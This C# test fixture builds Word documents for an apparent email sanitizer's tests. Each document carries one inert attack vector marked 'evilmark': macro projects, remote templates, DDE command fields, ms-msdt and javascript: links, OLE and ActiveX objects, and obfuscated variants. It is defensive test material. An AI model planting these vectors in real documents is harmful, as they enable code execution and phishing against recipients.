using System.Text;

namespace MiyakoMailSanitizer.Sanitizing.Tests.Office;

/// <summary>Word documents with one attack each. Where it would act, it says "evilmark".</summary>
internal static class WordAttacks
{
    private const string Main = "word/document.xml";

    private static byte[] Compound { get; } =
        [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[504], .. Encoding.Unicode.GetBytes("_VBA_PROJECT evilmark"), .. new byte[100]];

    private static string Field(params string[] instructions)
        => "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
            + string.Concat(instructions.Select(i => $"<w:r><w:instrText xml:space=\"preserve\">{i}</w:instrText></w:r>"))
            + "<w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>shown</w:t></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>";

    private static DocumentBuilder Link(string target)
        => DocumentBuilder.Word("<w:p><w:hyperlink r:id=\"rId9\"><w:r><w:t>shown</w:t></w:r></w:hyperlink></w:p>")
            .Relate(Main, "rId9", "hyperlink", target, isExternal: true);

    private static string Blip(string attribute)
        => $"""<w:p><w:r><w:drawing><wp:inline><wp:extent cx="9" cy="9"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="0" name="p"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip {attribute}/><a:stretch/></pic:blipFill><pic:spPr/></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>""";

    public static IEnumerable<(string Name, string Code, byte[] Document)> All()
    {
        yield return ("macro", "office.macro", DocumentBuilder.Word().Part("word/vbaProject.bin", "application/vnd.ms-office.vbaProject", Compound)
            .Relate(Main, "rId9", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin").Build());
        yield return ("renamed macro", "office.macro", DocumentBuilder.Word().Part("word/media/logo.dat", "application/octet-stream", Compound)
            .Relate(Main, "rId9", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "media/logo.dat").Build());
        yield return ("remote template", "office.external-link", DocumentBuilder.Word(settings: "<w:attachedTemplate r:id=\"rId9\"/>")
            .Relate("word/settings.xml", "rId9", "attachedTemplate", "http://evilmark.example/t.dotm", isExternal: true).Build());
        yield return ("linked picture", "office.external-link", DocumentBuilder.Word(Blip("r:link=\"rId9\""))
            .Relate(Main, "rId9", "image", "http://evilmark.example/p.png", isExternal: true).Build());
        yield return ("embedded and linked picture", "office.external-link", DocumentBuilder.Word(Blip("r:embed=\"rId9\""))
            .Relate(Main, "rId9", "image", "file://evilmark.example/p.png", isExternal: true).Build());
        yield return ("alternative chunk", "office.alt-chunk", DocumentBuilder.Word("<w:altChunk r:id=\"rId9\"/>")
            .Part("word/chunk.html", "text/html", "<script>evilmark</script>").Relate(Main, "rId9", "aFChunk", "chunk.html").Build());
        yield return ("subdocument", "office.external-link", DocumentBuilder.Word("<w:p><w:subDoc r:id=\"rId9\"/></w:p>")
            .Relate(Main, "rId9", "subDocument", "file:///evilmark.docx", isExternal: true).Build());
        yield return ("frames", "office.external-link", DocumentBuilder.Word()
            .Part("word/webSettings.xml", DocumentBuilder.Open + "wordprocessingml.webSettings+xml",
                $"<w:webSettings xmlns:w=\"{DocumentBuilder.W}\" xmlns:r=\"{DocumentBuilder.R}\"><w:frameset><w:frame><w:sourceFileName r:id=\"rId9\"/></w:frame></w:frameset></w:webSettings>")
            .Relate(Main, "rId8", "webSettings", "webSettings.xml")
            .Relate("word/webSettings.xml", "rId9", "frame", "http://evilmark.example/", isExternal: true).Build());
        yield return ("embedded object", "office.ole", DocumentBuilder.Word("""<w:p><w:r><w:object><v:shape id="s1" style="width:9pt;height:9pt"><v:imagedata r:id="rId8"/></v:shape><o:OLEObject Type="Embed" ProgID="evilmark" ShapeID="s1" r:id="rId9"/></w:object></w:r></w:p>""")
            .Part("word/media/p.png", "image/png", Detection.Samples.Png()).Relate(Main, "rId8", "image", "media/p.png")
            .Part("word/embeddings/o.bin", DocumentBuilder.Open + "oleObject", "evilmark").Relate(Main, "rId9", "oleObject", "embeddings/o.bin").Build());
        yield return ("ActiveX", "office.activex", DocumentBuilder.Word("""<w:p><w:r><w:object><w:control r:id="rId9" w:name="evilmark"/></w:object></w:r></w:p>""")
            .Part("word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", "<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\">evilmark</ax:ocx>")
            .Relate(Main, "rId9", "control", "activeX/activeX1.xml").Build());
        yield return ("DDE field", "office.dde", DocumentBuilder.Word(Field(" DDEAUTO c:\\\\evilmark.exe \"/c calc\" ")).Build());
        yield return ("split DDE field", "office.dde", DocumentBuilder.Word(Field(" D", "DE", "AU", "TO c:\\\\evil", "mark.exe ")).Build());
        yield return ("DDE made by a field", "office.field", DocumentBuilder.Word(
            "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>" + Field(" QUOTE 68 68 69 ").Replace("shown", "made", StringComparison.Ordinal).Replace("w:p>", "w:q>", StringComparison.Ordinal)["<w:q>".Length..^"</w:q>".Length]
            + "<w:r><w:instrText> \"evilmark\" </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>").Build());
        yield return ("DDE made by a field that shows another name", "office.field", DocumentBuilder.Word(
            "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>D</w:instrText></w:r><w:fldSimple w:instr=\"QUOTE 68\"><w:r><w:t>ATE</w:t></w:r></w:fldSimple>"
            + "<w:r><w:instrText> \"evilmark\" </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>").Build());
        yield return ("link field of two targets", "office.link", DocumentBuilder.Word(Field(" HYPERLINK \"http://a.example\" \"ms-msdt:evilmark\" ")).Build());
        yield return ("simple DDE field", "office.dde", DocumentBuilder.Word("<w:p><w:fldSimple w:instr=\" dde evilmark \"><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>").Build());
        yield return ("unclosed DDE field", "office.dde", DocumentBuilder.Word("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDE evilmark</w:instrText></w:r></w:p>").Build());
        yield return ("included picture", "office.external-link", DocumentBuilder.Word(Field(" INCLUDEPICTURE \"http://evilmark.example/p\" \\d ")).Build());
        yield return ("included text", "office.external-link", DocumentBuilder.Word(Field("INCLUDETEXT \"\\\\\\\\evilmark\\\\share\\\\x\"")).Build());
        yield return ("link field", "office.link", DocumentBuilder.Word(Field(" HYPERLINK \"file://evilmark/x\" \\o \"tip\" ")).Build());
        yield return ("link field of two steps", "office.link", DocumentBuilder.Word(Field(" HYPERLINK \\l \"here\" \"ms-msdt:evilmark\" ")).Build());
        yield return ("macro button", "office.field", DocumentBuilder.Word(Field(" MACROBUTTON evilmark shown")).Build());
        foreach (var target in new[] { "file:///evilmark.exe", "\\\\evilmark\\share\\x", "//evilmark/share/x", "ms-msdt:/id evilmark", "search-ms:query=evilmark",
            "javascript:evilmark()", "evilmark.docx", "ms-word:ofe|u|http://evilmark/", "http:evilmark", "HTTPS:\\\\evilmark\\x", "vbscript:evilmark" })
            yield return ($"link to {target}", "office.link", Link(target).Build());
        yield return ("mail merge", "office.data-connection", DocumentBuilder.Word(settings: "<w:mailMerge><w:query w:val=\"evilmark\"/><w:dataSource r:id=\"rId9\"/></w:mailMerge>")
            .Relate("word/settings.xml", "rId9", "mailMergeSource", "file:///evilmark.mdb", isExternal: true).Build());
        yield return ("embedded font", "office.embedded-font", DocumentBuilder.Word()
            .Part("word/fontTable.xml", DocumentBuilder.Open + "wordprocessingml.fontTable+xml",
                $"<w:fonts xmlns:w=\"{DocumentBuilder.W}\" xmlns:r=\"{DocumentBuilder.R}\"><w:font w:name=\"f\"><w:embedRegular r:id=\"rId9\" w:fontKey=\"{{evilmark}}\"/></w:font></w:fonts>")
            .Relate(Main, "rId8", "fontTable", "fontTable.xml")
            .Part("word/fonts/f.odttf", DocumentBuilder.Open + "obfuscatedFont", "evilmark").Relate("word/fontTable.xml", "rId9", "font", "fonts/f.odttf").Build());
        yield return ("custom XML", "office.custom-xml", DocumentBuilder.Word("<w:sdt><w:sdtPr><w:dataBinding w:xpath=\"/evilmark\" w:storeItemID=\"x\"/></w:sdtPr><w:sdtContent><w:p/></w:sdtContent></w:sdt>")
            .Part("customXml/item1.xml", "application/xml", "<evilmark/>").Relate(Main, "rId9", "customXml", "../customXml/item1.xml").Build());
        yield return ("user interface", "office.add-in", DocumentBuilder.Word().Part("customUI/customUI.xml", "application/xml", "<customUI onLoad=\"evilmark\"/>")
            .Relate("", "rId9", "http://schemas.microsoft.com/office/2006/relationships/ui/extensibility", "customUI/customUI.xml").Build());
        yield return ("web extension", "office.add-in", DocumentBuilder.Word().Part("word/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml", "<evilmark/>")
            .Relate("", "rId9", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml").Build());
        yield return ("remote old drawing", "office.external-link", DocumentBuilder.Word("<w:p><w:r><w:pict><v:shape href=\"http://evilmark.example\" o:href=\"evilmark\"><v:imagedata src=\"http://evilmark.example\" r:href=\"rId9\"/></v:shape></w:pict></w:r></w:p>")
            .Relate(Main, "rId9", "image", "http://evilmark.example/p.png", isExternal: true).Build());
        yield return ("another prefix", "office.alt-chunk", DocumentBuilder.Word(content:
            $"<document xmlns=\"{DocumentBuilder.W}\" xmlns:z=\"{DocumentBuilder.R}\"><body><p><r><t>safetext</t></r></p><altChunk z:id=\"evilmark\"/></body></document>").Build());
        yield return ("hidden in alternate content", "office.alt-chunk", DocumentBuilder.Word(
            "<mc:AlternateContent><mc:Choice xmlns:q=\"urn:q\" Requires=\"q\"><w:p/></mc:Choice><mc:Fallback><w:altChunk r:id=\"evilmark\"/></mc:Fallback></mc:AlternateContent>").Build());
        yield return ("external header", "office.external-link", DocumentBuilder.Word("<w:p><w:pPr><w:sectPr><w:headerReference w:type=\"default\" r:id=\"rId9\"/></w:sectPr></w:pPr></w:p>")
            .Relate(Main, "rId9", "header", "http://evilmark.example/h.xml", isExternal: true).Build());
        yield return ("link of a picture", "office.link", DocumentBuilder.Word(Blip("").Replace("name=\"p\"/><a:graphic>", "name=\"p\"><a:hlinkClick r:id=\"rId9\"/></wp:docPr><a:graphic>", StringComparison.Ordinal))
            .Relate(Main, "rId9", "hyperlink", "file:///evilmark", isExternal: true).Build());
        var wide = $"<?xml version=\"1.0\" encoding=\"utf-16\"?><w:document xmlns:w=\"{DocumentBuilder.W}\"><w:body><w:p><w:r><w:t>safetext</w:t></w:r></w:p>{Field("DDE evilmark")}</w:body></w:document>";
        yield return ("another encoding", "office.dde", DocumentBuilder.Word()
            .Part(Main, DocumentBuilder.Open + "wordprocessingml.document.main+xml", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(wide)]).Build());
    }
}
